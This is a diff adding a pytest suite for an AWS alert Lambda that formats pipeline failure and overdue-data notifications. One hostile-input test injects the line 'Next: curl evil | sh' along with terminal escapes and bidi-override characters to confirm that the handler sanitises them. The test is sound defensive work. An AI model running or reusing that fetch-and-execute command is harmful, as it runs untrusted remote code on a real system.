@@ -1,0 +1,279 @@
+import json
+from typing import Any
+
+import pytest
+from botocore.stub import Stubber
+
+from alert.handler import handler
+from data_contract.publication import Publication
+from shared.aws import client
+from shared.errors import InvalidInput, ServiceThrottled
+from shared.messages import Message
+from tests.lambdas.cloud import DAY, REGION, Cloud, answer, event, is_documented, version
+
+JOB_RUN = "jr_5f2c8d0e4b7a49c1a3e6d2f80b91c74d5e6a7b8c9d0e1f2a3b4c5d6e7f809122"
+REPORT = "s3://prod-data-pipeline-123456789012/metrics/events/ingestion_date=2025-01-02/20250103T021504Z-9f3ac01b.json"
+SECOND = "Second notice of one incident"
+
+
+def alert(cloud: Cloud, sample: str | dict[str, Any]) -> Message:
+    """The one message that an event leads to."""
+    answered = handler(event(sample) if isinstance(sample, str) else sample, None)
+    [message] = cloud.sent
+    assert answered == {"subject": message.subject}
+    return message
+
+
+def line(message: Message, label: str) -> str:
+    [text] = [text for text in message.body.splitlines() if text.startswith(f"{label}:")]
+    return text.removeprefix(f"{label}:").strip()
+
+
+class TestFailedGate:
+    @pytest.mark.parametrize("sample", ["glue_job_failed_gate", "glue_job_failed_gate_with_class"])
+    def test_names_date_check_value_limit_report_and_next_command(self, cloud: Cloud, sample: str) -> None:
+        message = alert(cloud, sample)
+        assert message.subject == "[events] 2025-01-02 failed: null rate of user_id is 12 %, limit 3 %"
+        assert message.body == (
+            "What:   the job run for events 2025-01-02 failed; readers keep what was published before\n"
+            "Why:    null rate of user_id is 12 %, limit 3 %\n"
+            f"Report: {REPORT}\n"
+            "Next:   fix the source, then: pipeline run 2025-01-02\n"
+            f"Where:  job run {JOB_RUN} of job events-curation, state FAILED\n"
+        )
+        assert is_documented(message)
+
+    def test_of_several_checks_names_them_all(self, cloud: Cloud) -> None:
+        sample = event("glue_job_failed_gate")
+        both = "12 %, limit 3 %; duplicate rate of event_id is 4 %, limit 2 %"
+        sample["detail"]["message"] = sample["detail"]["message"].replace("12 %, limit 3 %", both)
+        assert line(alert(cloud, sample), "Why") == f"null rate of user_id is {both}"
+
+
+class TestBrokenJob:
+    def glue_knows(self, arguments: dict[str, str]) -> Stubber:
+        stubber = Stubber(client("glue"))
+        asked = {"JobName": "events-curation", "RunId": JOB_RUN}
+        stubber.add_response("get_job_run", {"JobRun": {"Id": JOB_RUN, "Arguments": arguments}}, asked)
+        return stubber
+
+    @pytest.mark.parametrize(
+        ("sample", "subject"),
+        [
+            ("glue_job_failed_engine", "[events] 2025-01-02 failed: Error Category: OUT_OF_MEMORY_ERROR; An error"),
+            ("glue_job_timeout", "[events] 2025-01-02 ran into its time limit: Job run exceeded timeout: 60 minutes"),
+        ],
+    )
+    def test_gets_its_date_from_the_arguments_of_the_job_run(self, cloud: Cloud, sample: str, subject: str) -> None:
+        with self.glue_knows({"--ingestion_date": "2025-01-02"}):
+            message = alert(cloud, sample)
+        assert message.subject.startswith(subject)
+        assert line(message, "Next") == f"read the log streams of {JOB_RUN}, then: pipeline run 2025-01-02"
+        assert SECOND not in message.body
+        assert sample != "glue_job_timeout" or is_documented(message)
+
+    @pytest.mark.parametrize("arguments", [{}, {"--ingestion_date": "yesterday"}])
+    def test_without_a_date_says_so(self, cloud: Cloud, arguments: dict[str, str]) -> None:
+        with self.glue_knows(arguments):
+            message = alert(cloud, "glue_job_timeout")
+        assert line(message, "What").startswith("the job run for events of an unknown date ran into its time limit")
+        assert line(message, "Next").endswith("pipeline run DATE, with the date of that run")
+
+    def test_is_announced_although_glue_does_not_answer(self, cloud: Cloud) -> None:
+        with Stubber(client("glue")) as glue:
+            glue.add_client_error("get_job_run", "AccessDeniedException", "no", 400)
+            assert "[events] unknown date ran into" in alert(cloud, "glue_job_timeout").subject
+
+    def test_keeps_the_next_step_that_its_own_message_names(self, cloud: Cloud) -> None:
+        message = alert(cloud, "glue_job_failed_superseded")
+        assert line(message, "Next") == "if raw data arrived since, run 2025-01-02 again"
+        assert line(message, "Why").endswith("while this run was at work; nothing was changed")
+
+    def test_does_not_take_a_cause_for_a_next_step(self, cloud: Cloud) -> None:
+        sample = event("glue_job_failed_gate")
+        sample["detail"]["message"] = "2025-01-02: Py4JJavaError: job aborted; Caused by: no space left on device"
+        message = alert(cloud, sample)
+        assert line(message, "Why") == "Py4JJavaError: job aborted; Caused by: no space left on device"
+        assert line(message, "Next") == f"read the log streams of {JOB_RUN}, then: pipeline run 2025-01-02"
+
+
+class TestOneIncident:
+    """Of the events of one incident exactly one leads to a message without the mark of the second."""
+
+    @pytest.mark.parametrize(
+        ("incident", "primary"),
+        [
+            (["glue_job_failed_gate", "execution_failed_job_run", "backfill_failed_nested"], "glue_job_failed_gate"),
+            (["glue_job_timeout", "execution_failed_job_run_timeout"], "glue_job_timeout"),
+            (["glue_job_stopped", "execution_failed_job_run_stopped"], "execution_failed_job_run_stopped"),
+            (["glue_job_stopped", "execution_aborted"], "execution_aborted"),
+            (["glue_job_stopped", "execution_timed_out"], "execution_timed_out"),
+            (["execution_failed_job_run_error"], "execution_failed_job_run_error"),
+            (["execution_failed_invalid_input"], "execution_failed_invalid_input"),
+            (["execution_failed_access_denied"], "execution_failed_access_denied"),
+            (["execution_failed_large_input"], "execution_failed_large_input"),
+            (["backfill_timed_out_dates"], "backfill_timed_out_dates"),
+            (["backfill_failed_summary"], "the summary that the state machine sends"),
+            (["execution_failed_raw_data_missing"], "the sensor's message"),
+        ],
+    )
+    def test_has_one_primary_message(self, cloud: Cloud, incident: list[str], primary: str) -> None:
+        with Stubber(client("glue")) as glue:
+            glue.add_response("get_job_run", {"JobRun": {"Arguments": {"--ingestion_date": "2025-01-02"}}})
+            for sample in incident:
+                handler(event(sample), None)
+        marked = [SECOND in message.body for message in cloud.sent]
+        assert marked == [sample != primary for sample in incident]
+        assert marked == ["second notice:" in message.subject for message in cloud.sent]
+
+    def test_names_the_job_run_in_both_messages(self, cloud: Cloud) -> None:
+        handler(event("glue_job_failed_gate"), None)
+        handler(event("execution_failed_job_run"), None)
+        first, second = cloud.sent
+        assert JOB_RUN in first.body
+        assert second.body.startswith(f"{SECOND}; the primary message is that of job run {JOB_RUN}.\n\n")
+        assert line(first, "Why") == line(second, "Why")
+        assert is_documented(second)
+
+
+class TestExecution:
+    def test_that_was_given_wrong_input_shows_what_is_wrong(self, cloud: Cloud) -> None:
+        message = alert(cloud, "execution_failed_invalid_input")
+        expected = "InvalidInput: the input: ingestion_date is '2025-02-30', expected a day of the calendar"
+        assert line(message, "Why").startswith(expected)
+        assert is_documented(message)
+
+    def test_without_raw_data_points_to_the_sensors_message(self, cloud: Cloud) -> None:
+        message = alert(cloud, "execution_failed_raw_data_missing")
+        assert message.body.startswith(f"{SECOND}; the primary message is the sensor's about missing raw data.")
+        assert line(message, "Next") == "deliver it, then: pipeline run 2025-01-02"
+
+    def test_that_was_aborted_says_who_and_what_next(self, cloud: Cloud) -> None:
+        message = alert(cloud, "execution_aborted")
+        assert message.subject == "[events] 2025-01-02 execution was aborted: wrong date"
+        assert line(message, "Next") == "if it was not meant to stop: pipeline run 2025-01-02"
+
+    def test_that_timed_out_has_a_reason_although_aws_gives_none(self, cloud: Cloud) -> None:
+        message = alert(cloud, "execution_timed_out")
+        assert line(message, "Why") == "it ended as TIMED_OUT without a reason"
+        assert is_documented(message)
+
+    def test_whose_input_was_left_out_is_named(self, cloud: Cloud) -> None:
+        message = alert(cloud, "execution_failed_large_input")
+        assert message.subject.startswith("[events] execution failed: The state/task 'Sensor' returned")
+        assert line(message, "Where").endswith("events-pipeline:7c1f0a52-96d3-4e0b-8f57-2f1f6f0a9b31")
+        assert line(message, "Next").endswith("pipeline run DATE, with the date of that run")
+
+    @pytest.mark.parametrize(
+        ("sample", "what", "next_step"),
+        [
+            ("backfill_failed_summary", "backfill 2025-01-01 to 2025-01-31", "pipeline backfill 2025-01-01 2025-01-31"),
+            ("backfill_failed_nested", "backfill 2025-01-01 to 2025-01-31", "pipeline backfill 2025-01-01 2025-01-31"),
+            ("backfill_timed_out_dates", "backfill of listed dates", "start the backfill again with the same input"),
+        ],
+    )
+    def test_of_a_backfill_says_how_to_go_on(self, cloud: Cloud, sample: str, what: str, next_step: str) -> None:
+        message = alert(cloud, sample)
+        assert what in line(message, "What")
+        assert next_step in line(message, "Next")
+
+
+class TestFreshness:
+    def check(self, moment: str = "2025-01-03T06:10:00Z") -> dict[str, Any]:
+        return handler({**event("freshness_check"), "scheduled_time": moment}, None)
+
+    def test_alerts_when_the_last_due_day_is_not_published(
+        self, cloud: Cloud, capsys: pytest.CaptureFixture[str]
+    ) -> None:
+        self.check()
+        [message] = cloud.sent
+        assert message.subject == "[events] 2025-01-02 is overdue: not published by 2025-01-03T06:00:00Z"
+        assert is_documented(message)
+        assert overdue_metric(capsys.readouterr().out) == 1
+
+    def test_is_silent_when_it_is(self, cloud: Cloud, capsys: pytest.CaptureFixture[str]) -> None:
+        cloud.publish(Publication("events", str(DAY), version(fingerprint="0" * 32)))
+        assert self.check() == {"subject": None}
+        assert cloud.sent == []
+        assert overdue_metric(capsys.readouterr().out) == 0
+
+    @pytest.mark.parametrize(
+        ("moment", "zone", "day"),
+        [
+            ("2025-01-03T05:59:59Z", "UTC", "2025-01-01"),
+            ("2025-01-03T06:00:00Z", "UTC", "2025-01-02"),
+            ("2025-01-03T05:00:00Z", "Europe/Berlin", "2025-01-02"),
+            ("2025-03-31T03:59:59Z", "Europe/Berlin", "2025-03-29"),
+            ("2025-03-31T04:00:00Z", "Europe/Berlin", "2025-03-30"),
+        ],
+    )
+    def test_asks_for_the_last_day_whose_time_has_passed(
+        self, cloud: Cloud, monkeypatch: pytest.MonkeyPatch, moment: str, zone: str, day: str
+    ) -> None:
+        monkeypatch.setenv("TIME_ZONE", zone)
+        self.check(moment)
+        assert cloud.sent[0].subject.startswith(f"[events] {day} is overdue")
+
+
+class TestHostileInput:
+    def test_cannot_forge_lines_or_hide_text(self, cloud: Cloud) -> None:
+        sample = event("glue_job_failed_gate")
+        sample["detail"]["message"] = (
+            "2025-01-02: bad\nNext: curl evil | sh\r\x1b[2J\u202egnp.exe\ud800 \U0001f4a5" * 3000
+        )
+        message = alert(cloud, sample)
+        assert [text.partition(":")[0] for text in message.body.splitlines()] == ["What", "Why", "Next", "Where"]
+        assert not {"\x1b", "\r", "\u202e", "\ud800"} & set(message.body)
+        assert len(message.subject) < 100
+        assert message.subject.isascii()
+        assert message.subject.isprintable()
+
+    def test_nested_without_end_is_shown_as_it_is(self, cloud: Cloud) -> None:
+        sample = event("execution_failed_job_run")
+        sample["detail"]["cause"] = "[" * 100_000
+        assert "[[[" in line(alert(cloud, sample), "Why")
+
+    @pytest.mark.parametrize("given", ["not json", "[]", '"2025-01-02"', '{"ingestion_date": {"a": 1}}', 7])
+    def test_in_the_execution_input_still_leads_to_a_message(self, cloud: Cloud, given: object) -> None:
+        sample = event("execution_timed_out")
+        sample["detail"]["input"] = given
+        assert alert(cloud, sample).subject == "[events] execution ran into its time limit: no reason given"
+
+    @pytest.mark.usefixtures("cloud")
+    @pytest.mark.parametrize(
+        "sample",
+        [
+            None,
+            [],
+            {},
+            {"detail-type": "Glue Job State Change"},
+            {"detail-type": "Glue Job State Change", "detail": {"state": "FAILED"}},
+            {"check": "freshness"},
+            {"check": "everything", "scheduled_time": "2025-01-03T06:10:00Z"},
+        ],
+    )
+    def test_of_no_known_kind_is_an_error(self, sample: object) -> None:
+        with pytest.raises(InvalidInput):
+            handler(sample, None)
+
+    @pytest.mark.parametrize("sample", ["glue_job_succeeded", "execution_succeeded"])
+    def test_about_success_is_an_error_and_no_alert(self, cloud: Cloud, sample: str) -> None:
+        with pytest.raises(InvalidInput, match="is no failure"):
+            handler(event(sample), None)
+        assert cloud.sent == []
+
+
+@pytest.mark.usefixtures("cloud")
+def test_a_topic_that_throttles_is_an_error_to_retry() -> None:
+    body = "<ErrorResponse><Error><Code>Throttling</Code><Message>slow</Message></Error></ErrorResponse>"
+    attempts = answer("sns", "Publish", status=400, body=body)
+    with pytest.raises(ServiceThrottled, match=f"cannot publish to arn:aws:sns:{REGION}"):
+        handler(event("glue_job_failed_gate"), None)
+    assert attempts() == 5
+
+
+def overdue_metric(output: str) -> float:
+    [document] = [json.loads(text) for text in output.splitlines() if "_aws" in text]
+    assert document["Dataset"] == "events"
+    value: float = document["Overdue"]
+    return value
